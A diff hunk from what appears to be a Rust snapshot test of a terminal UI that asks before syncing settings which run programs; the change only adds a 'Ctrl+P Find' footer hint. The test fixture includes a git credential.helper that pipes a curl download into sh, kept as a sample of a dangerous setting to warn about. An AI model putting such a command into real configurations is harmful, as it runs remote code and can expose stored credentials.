@@ -71,7 +71,7 @@ fn before_a_sync_the_screen_shows_the_programs_and_asks_and_a_no_leaves_everythi
     │   credential.helper = !curl -s https://example.org/x | sh                    │
     └──────────────────────────────────────────────────────────────────────────────┘
                                                       Saved · Needs you · 1 to send
-     F5 Send and receive  Enter Open  c Shared copy                          ? Help
+     F5 Send and receive  Enter Open  c Shared copy             Ctrl+P Find  ? Help
     ");
     two.one.keys("F5");
     let asked = two.one.frame();
